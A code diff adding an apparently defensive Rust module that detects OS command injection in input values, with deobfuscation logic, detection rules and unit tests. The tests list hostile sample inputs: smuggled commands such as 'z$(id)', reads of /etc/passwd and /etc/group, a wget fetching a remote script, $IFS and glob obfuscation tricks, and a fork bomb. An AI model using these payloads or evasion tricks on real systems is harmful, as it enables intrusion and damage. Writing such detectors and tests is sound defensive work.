@@ -1,0 +1,275 @@
+//! OS command injection: removes shell obfuscation (empty quotes, backslashes
+//! inside words, `$IFS`, unknown `${...}` expansions, brace lists), finds the
+//! positions where a shell starts a new command (value start, `;` `|` `&`
+//! newline, backticks, `$(`), and judges the command word found there
+//! (known Unix and Windows binaries, globbed paths such as `/???/c?t`) by its
+//! arguments.
+
+use super::cmdi_shell::{deobfuscate, obfuscated, special};
+use super::cmdi_words::{CLEAR, ENGLISHY, SHELLS, WORDY};
+use super::normalize::Norm;
+use super::{evidence, Finding, InputContext};
+
+/// Detects OS command injection in one value.
+pub fn detect(n: &Norm, ctx: InputContext) -> Option<Finding> {
+    let s = deobfuscate(&n.lower);
+    let mut r = special(&s)
+        .or_else(|| special(&n.lower))
+        .or_else(|| positions(&s, ctx));
+    if r.is_some_and(|r| r.0 == 2) && obfuscated(&n.lower) {
+        r = Some((1, "obfuscated command"));
+    }
+    r.map(|(l, why)| (l, why, evidence(&s)))
+}
+
+#[derive(Clone, Copy, PartialEq)]
+enum Pos {
+    Start,
+    Sep(bool),
+    Subst,
+}
+
+fn positions(s: &str, ctx: InputContext) -> Option<(u8, &'static str)> {
+    let b = s.as_bytes();
+    let mut best: Option<(u8, &'static str)> = None;
+    let mut i = 0;
+    let consider = |at: usize, pos: Pos, best: &mut Option<(u8, &'static str)>| {
+        if let Some(r) = judge_at(&s[at..], pos, ctx) {
+            if best.is_none_or(|b| r.0 < b.0) {
+                *best = Some(r);
+            }
+        }
+    };
+    consider(0, Pos::Start, &mut best);
+    let mut known = usize::from(command_word(s).is_some());
+    while i < b.len() {
+        let (pos, skip) = match b[i] {
+            b';' => (Some(Pos::Sep(true)), 1),
+            b'\n' | b'\r' => (Some(Pos::Sep(false)), 1),
+            b'|' | b'&' if b.get(i + 1) == Some(&b[i]) => (Some(Pos::Sep(true)), 2),
+            b'|' => (Some(Pos::Sep(true)), 1),
+            b'&' => (Some(Pos::Sep(false)), 1),
+            b'`' => (Some(Pos::Subst), 1),
+            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Some(Pos::Subst), 2),
+            _ => (None, 1),
+        };
+        i += skip;
+        if let Some(p) = pos {
+            consider(i, p, &mut best);
+            known += usize::from(command_word(&s[i..]).is_some());
+            if known >= 2 && matches!(p, Pos::Sep(true)) && best.is_none_or(|b| b.0 > 1) {
+                best = Some((1, "chain of shell commands"));
+            }
+            if i <= 2
+                && matches!(p, Pos::Sep(true))
+                && flag_shape(&s[i..])
+                && best.is_none_or(|b| b.0 > 1)
+            {
+                best = Some((1, "command line after a leading separator"));
+            }
+        }
+        if best.is_some_and(|b| b.0 == 1) {
+            break;
+        }
+    }
+    best
+}
+
+/// Words that run the command after them.
+const WRAPPERS: &[&str] = &[
+    "time", "nohup", "sudo", "env", "xargs", "exec", "command", "builtin", "nice", "strace",
+    "busybox",
+];
+
+fn judge_at(rest: &str, pos: Pos, ctx: InputContext) -> Option<(u8, &'static str)> {
+    let mut rest = rest.trim_start_matches(|c: char| {
+        c.is_whitespace() || matches!(c, '(' | '{' | '"' | '\'' | '!')
+    });
+    while rest.starts_with('$') && !rest.starts_with("$(") {
+        rest = rest
+            .trim_start_matches(|c: char| c == '$' || c.is_ascii_alphanumeric() || c == '_')
+            .trim_start();
+    }
+    for w in WRAPPERS {
+        if let Some(r) = rest.strip_prefix(w).filter(|r| r.starts_with(' ')) {
+            if let Some(hit) = judge_at(r, Pos::Sep(true), ctx) {
+                return Some(hit);
+            }
+        }
+    }
+    let word_end = rest
+        .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
+        .unwrap_or(rest.len());
+    let word = &rest[..word_end];
+    let arg = rest[word_end..].trim_start_matches(|c: char| c.is_whitespace() || c == '<');
+    let (had_path, name) = split_path(word);
+    let name = name.trim_end_matches(".exe");
+    let clear = CLEAR.contains(&name) || (had_path && glob_match_any(name));
+    let wordy = WORDY.contains(&name);
+    if !clear && !wordy {
+        return None;
+    }
+    let shelly = shelly_arg(arg, name);
+    let at_end = arg.is_empty() || arg.starts_with(['|', ';', '&', '`', ')', '#']);
+    match pos {
+        Pos::Subst if clear || shelly => Some((1, "command substitution")),
+        Pos::Sep(strong)
+            if clear
+                && (shelly || at_end || strong && !ENGLISHY.contains(&name) && arg_plain(arg)) =>
+        {
+            Some((1, "command after a shell separator"))
+        }
+        Pos::Sep(_) if wordy && shelly => Some((1, "command after a shell separator")),
+        Pos::Sep(_) if had_path => Some((1, "command path after a separator")),
+        Pos::Start if had_path && (clear || shelly) && ctx != InputContext::Path => {
+            Some((1, "command path"))
+        }
+        Pos::Start
+            if clear && SHELLS.contains(&name) && arg.starts_with("-c")
+                || name == "nc" && arg.contains("-e") =>
+        {
+            Some((1, "interpreter invocation"))
+        }
+        Pos::Start if clear && shelly && !ENGLISHY.contains(&name) => Some((1, "command line")),
+        Pos::Start if clear && shelly => Some((2, "command line")),
+        _ => None,
+    }
+}
+
+/// The command word at the start of `rest`, when it is a known binary.
+fn command_word(rest: &str) -> Option<&str> {
+    let rest = rest.trim_start();
+    let end = rest
+        .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
+        .unwrap_or(rest.len());
+    let (_, name) = split_path(&rest[..end]);
+    (CLEAR.contains(&name) || WORDY.contains(&name) || name == "cd").then_some(name)
+}
+
+/// `word -flag ...`: the shape of a command line, whatever the binary.
+fn flag_shape(rest: &str) -> bool {
+    let mut w = rest.split_whitespace();
+    let cmd = w.next().unwrap_or("");
+    let arg = w.next().unwrap_or("");
+    (2..=20).contains(&cmd.len())
+        && cmd
+            .chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_')
+        && arg.len() >= 2
+        && arg.starts_with('-')
+        && arg[1..].starts_with(|c: char| c.is_ascii_alphabetic())
+}
+
+fn arg_plain(arg: &str) -> bool {
+    arg.split_whitespace().next().is_some_and(|w| w.len() <= 24)
+        && arg.split_whitespace().count() <= 3
+}
+
+fn split_path(word: &str) -> (bool, &str) {
+    let w = word.trim_matches(['"', '\'']);
+    if w.contains("://") || w.contains('.') && w.find('.') < w.find('/') {
+        return (false, w);
+    }
+    match w.rfind(['/', '\\']) {
+        Some(p) => (true, &w[p + 1..]),
+        None => (false, w),
+    }
+}
+
+fn shelly_arg(arg: &str, name: &str) -> bool {
+    let a = arg.split_whitespace().next().unwrap_or("");
+    if a.is_empty() {
+        return false;
+    }
+    let first = a.chars().next().unwrap_or(' ');
+    if "-/~$%\\>".contains(first) && a.len() > 1 || a.starts_with("./") || a.starts_with("../") {
+        return true;
+    }
+    if a.len() > 2 && a.as_bytes()[1] == b':' && a.as_bytes()[2] == b'\\' {
+        return true;
+    }
+    let netty = matches!(
+        name,
+        "ping" | "host" | "dig" | "nslookup" | "curl" | "wget" | "nc" | "telnet" | "whois"
+    );
+    if netty && a.contains('.') {
+        return true;
+    }
+    matches!(name, "sleep" | "timeout" | "ping") && a.chars().all(|c| c.is_ascii_digit())
+}
+
+fn glob_match_any(name: &str) -> bool {
+    if !name.contains(['?', '*', '[']) {
+        return false;
+    }
+    CLEAR
+        .iter()
+        .chain(WORDY)
+        .any(|c| glob(name.as_bytes(), c.as_bytes()))
+}
+
+fn glob(p: &[u8], s: &[u8]) -> bool {
+    match (p.first(), s.first()) {
+        (None, None) => true,
+        (Some(b'*'), _) => glob(&p[1..], s) || (!s.is_empty() && glob(p, &s[1..])),
+        (Some(b'?'), Some(_)) => glob(&p[1..], &s[1..]),
+        (Some(a), Some(b)) if a == b => glob(&p[1..], &s[1..]),
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lvl(s: &str) -> Option<u8> {
+        detect(&Norm::new(s), InputContext::QueryValue).map(|f| f.0)
+    }
+
+    #[test]
+    fn catches_commands() {
+        for s in [
+            "8.8.8.8; whoami",
+            "x | c''at /etc/hostname",
+            "a && /???/c?t /etc/group",
+            "q`uname -a`",
+            "z$(id)",
+            "name\nwget http://198.51.100.7/x.sh",
+            "y;ca\\t${IFS}/etc/issue",
+            "| dir c:\\windows",
+            "& ping -n 3 192.0.2.1",
+            "foo;{ls,-la,/}",
+            "abc & cmd.exe /c ver",
+            "bash -c 'touch /tmp/p'",
+            "echo $((6*7))",
+            "for /f %i in ('whoami') do echo %i",
+            "v=${`id`}",
+            "pi$()ng -c 1 192.0.2.1",
+            "time curl example.org",
+            "IF EXIST C:\\boot.ini ECHO yes",
+            "f(){ f|f& };f",
+            ";anytool -x whatever",
+            "cd /;cd etc;more passwd",
+        ] {
+            assert_eq!(lvl(s), Some(1), "{s}");
+        }
+    }
+
+    #[test]
+    fn passes_text() {
+        for s in [
+            "Tom & Jerry",
+            "cats | dogs",
+            "first; then more to come",
+            "rock & roll; we sleep well",
+            "the cat sat on the mat",
+            "salt & pepper & time",
+            "find the best deal",
+            "A|B testing",
+            "see ch. 3; -5 degrees",
+            "first; then more; done",
+        ] {
+            assert_ne!(lvl(s), Some(1), "{s}");
+        }
+    }
+}
